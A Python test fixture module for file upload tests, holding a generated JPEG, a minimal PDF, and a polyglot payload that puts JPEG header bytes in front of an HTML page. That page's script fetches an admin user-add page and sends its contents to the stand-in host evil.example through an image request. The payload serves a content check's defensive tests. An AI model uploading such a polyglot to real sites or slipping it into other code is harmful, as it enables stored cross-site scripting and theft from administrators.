"""Real files for upload tests: an image that decodes, a PDF that starts and ends as one, and the
disguised page the content check exists for."""

import io

from PIL import Image

PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# A JPEG's first bytes, then a web page with a script: what a browser ran as text/html.
JPEG_HEADED_PAGE = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"<html><body><script>fetch('/admin/auth/user/add/').then(r => r.text())"
    b".then(t => new Image().src = '//evil.example/?' + encodeURIComponent(t))"
    b"</script></body></html>"
)


def image_bytes(image_format: str = "JPEG", size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()
